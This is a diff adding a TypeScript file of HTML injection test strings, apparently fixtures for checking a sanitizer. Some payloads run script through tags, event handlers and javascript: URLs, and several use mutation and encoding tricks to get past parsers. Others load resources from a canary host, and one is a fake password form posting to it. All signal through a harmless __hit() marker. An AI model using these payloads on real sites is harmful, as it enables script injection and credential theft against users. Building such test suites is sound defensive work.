@@ -1,0 +1,130 @@
+/** HTML that runs, asks or covers where it is taken for HTML. */
+
+export function tagsThatRun(canary: string): string[] {
+  return [
+    '<script>__hit()</script>',
+    '<ScRiPt>__hit()</sCrIpT>',
+    '<script\n>__hit()</script\n>',
+    `<script src="${canary}/s.js"></script>`,
+    `<script type=module>import '${canary}/m.js'</script>`,
+    '<img src=x onerror=__hit()>',
+    '<img src=x onerror="__hit()"//',
+    '<IMG """><script>__hit()</script>">',
+    '<img/src/onerror=__hit()>',
+    '<image src=x onerror=__hit()>',
+    '<svg onload=__hit()>',
+    '<svg/onload=__hit()>',
+    '<svg><script>__hit()</script></svg>',
+    '<svg><animate onbegin=__hit() attributeName=x dur=1s>',
+    '<svg><set onbegin=__hit() attributeName=x>',
+    '<svg><a xlink:href="javascript:__hit()"><text x=20 y=20>x</text></a></svg>',
+    `<svg><use href="${canary}/u.svg#x"></use><image href="${canary}/i.png"/></svg>`,
+    `<svg><foreignObject><iframe src="${canary}/f"></iframe></foreignObject></svg>`,
+    '<iframe srcdoc="<script>parent.__hit()</script>"></iframe>',
+    '<iframe src="javascript:parent.__hit()"></iframe>',
+    `<iframe src="${canary}/frame"></iframe>`,
+    `<embed src="${canary}/e">`,
+    `<object data="${canary}/o"></object>`,
+    '<object data="data:text/html,<script>parent.__hit()</script>"></object>',
+    `<meta http-equiv=refresh content="0;url=${canary}/meta">`,
+    `<base href="${canary}/">`,
+    `<link rel=stylesheet href="${canary}/l.css">`,
+    `<link rel=preload as=image href="${canary}/preload.png">`,
+    `<link rel=prefetch href="${canary}/prefetch">`,
+    `<style>@import "${canary}/c.css"; body { background: url(${canary}/bg) }</style>`,
+    `<p style="background: url(${canary}/style)">x</p>`,
+    `<div style="position:fixed;inset:0;z-index:9999;background:image-set('${canary}/set' 1x)">cover</div>`,
+    `<form action="${canary}/form"><input name=password autofocus><button>Sign in</button></form>`,
+    `<button formaction="javascript:__hit()">x</button>`,
+    `<isindex type=image src="${canary}/isindex">`,
+    `<input type=image src="${canary}/input" onerror=__hit()>`,
+    `<video poster="${canary}/poster"><source src="${canary}/v.mp4" onerror=__hit()></video>`,
+    `<audio src="${canary}/a.mp3" autoplay onerror=__hit()></audio>`,
+    '<video><source onerror=__hit()></video>',
+    '<details open ontoggle=__hit()>x</details>',
+    '<marquee onstart=__hit()>x</marquee>',
+    '<body onload=__hit()>',
+    '<input autofocus onfocus=__hit()>',
+    '<select autofocus onfocus=__hit()><option>x</select>',
+    '<textarea autofocus onfocus=__hit()></textarea>',
+    '<a href="javascript:__hit()">x</a>',
+    '<a href="&#106;avascript:__hit()">x</a>',
+    '<a href="java\tscript:__hit()">x</a>',
+    '<a href=https://a.example ping="http://127.0.0.1:9/ping">x</a>',
+    '<area href="javascript:__hit()">',
+    '<math><mtext><script>__hit()</script></mtext></math>',
+    '<math href="javascript:__hit()">x</math>',
+    '<template><script>__hit()</script></template>',
+    '<noscript><img src=x onerror=__hit()></noscript>',
+    '<dialog open><img src=x onerror=__hit()></dialog>',
+    `<table background="${canary}/table"><td>x</table>`,
+    `<img srcset="${canary}/1x 1x, ${canary}/2x 2x">`,
+    `<picture><source srcset="${canary}/picture"><img src=x></picture>`,
+    '<x onclick=__hit() tabindex=1 autofocus onfocus=__hit()>x</x>',
+    '<portal src="https://a.example"></portal><fencedframe></fencedframe><webview src="https://a.example"></webview>',
+    '<xss id=__proto__><form name=body></form><img name=getElementById>',
+  ];
+}
+
+/** What a parser turns into something else. */
+export function mutations(): string[] {
+  const run = '<img src=x onerror=__hit()>';
+  return [
+    `<noscript><p title="</noscript>${run}">`,
+    `<svg></p><style><a id="</style>${run}">`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__hit()&gt;">`,
+    `<form><math><mtext></form><form><mglyph><style></math>${run}`,
+    `<svg><desc><template><style></desc>${run}`,
+    `<!--><svg onload=__hit()>-->`,
+    `<!--!><img src=x onerror=__hit()>--!>`,
+    `<?xml version="1.0"?>${run}`,
+    `<![CDATA[${run}]]>`,
+    `<!DOCTYPE x [<!ENTITY y "${run}">]>&y;`,
+    `<title><a title="</title>${run}">`,
+    `<textarea></textarea\t>${run}`,
+    `<xmp><p title="</xmp>${run}">`,
+    `<plaintext>${run}`,
+    `<listing>&lt;img src=x onerror=__hit()&gt;</listing>`,
+    `<select><template><style><!--</style><a rel="--><img src=x onerror=__hit()>">`,
+    `<a title="\`<img src=x onerror=__hit()>\`">`,
+    '<<script>__hit()//<</script>',
+    '<scr<script>ipt>__hit()</scr</script>ipt>',
+    '<img src="x` `<script>__hit()</script>"` `>',
+    `<div\u0000>${run}</div>`,
+    '<img src=x\u0000 onerror\u0000=__hit()>',
+    '<img\u000csrc=x\u000conerror=__hit()>',
+    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=__hit()>//"></svg>',
+    '\u2028<script>__hit()</script>\u2029',
+    '\ufeff<script>__hit()</script>',
+    '＜script＞__hit()＜/script＞',
+    '%3Cscript%3E__hit()%3C/script%3E',
+    '\\x3cscript\\x3e__hit()\\x3c/script\\x3e',
+    '+ADw-script+AD4-__hit()+ADw-/script+AD4-',
+    `\${__hit()} {{constructor.constructor("__hit()")()}} <%= __hit() %> #{__hit()}`,
+    '$$\\href{javascript:__hit()}{x}$$ and $\\unicode{<img src=x onerror=__hit()>}$',
+    '```mermaid\ngraph TD; A["<img src=x onerror=__hit()>"]-->B; click A "javascript:__hit()"\n```',
+    '```js\n__hit()\n```\n\n<script>__hit()</script>',
+    '{{< raw >}}<script>__hit()</script>{{< /raw >}}',
+    '---\ntitle: <script>__hit()</script>\n---\n<script>__hit()</script>',
+  ];
+}
+
+export function eventHandlers(): string[] {
+  const events =
+    `abort animationend animationstart auxclick beforeinput beforematch beforetoggle blur cancel canplay change click
+    contextmenu cuechange dblclick drag drop durationchange error focus focusin formdata input invalid keydown load loadeddata
+    loadstart message mouseenter mousemove mouseover pageshow paste pointerenter pointerover resize scroll securitypolicyviolation
+    select slotchange stalled submit suspend toggle transitionend unhandledrejection wheel`.split(/\s+/);
+  const tags = [
+    'img src=x',
+    'svg',
+    'video src=x',
+    'details open',
+    'input autofocus',
+    'div style="animation: x"',
+  ];
+  return events.flatMap((event, n) => [
+    `<${tags[n % tags.length]} on${event}=__hit()>x`,
+    `<${tags[(n + 3) % tags.length]} on${event}="__hit&lpar;&rpar;" on${event.toUpperCase()}='__hit()'>x`,
+  ]);
+}
